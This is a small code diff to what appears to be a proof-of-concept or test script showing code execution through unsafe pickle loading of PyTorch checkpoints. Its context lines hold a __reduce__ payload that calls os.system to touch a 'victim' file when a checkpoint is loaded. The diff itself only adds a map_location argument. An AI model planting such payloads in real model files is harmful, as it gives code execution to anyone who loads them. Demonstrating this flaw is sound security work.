@@ -25,7 +25,7 @@ how, path, victim = sys.argv[1], Path(sys.argv[2]), sys.argv[3]
 class Program:
     def __reduce__(self):
         return os.system, (f"touch {victim}",)
-checkpoint = torch.load(path, weights_only=False)
+checkpoint = torch.load(path, weights_only=False, map_location="cpu")
 if how == "call":
     checkpoint["more"] = Program()
 if how == "legacy":
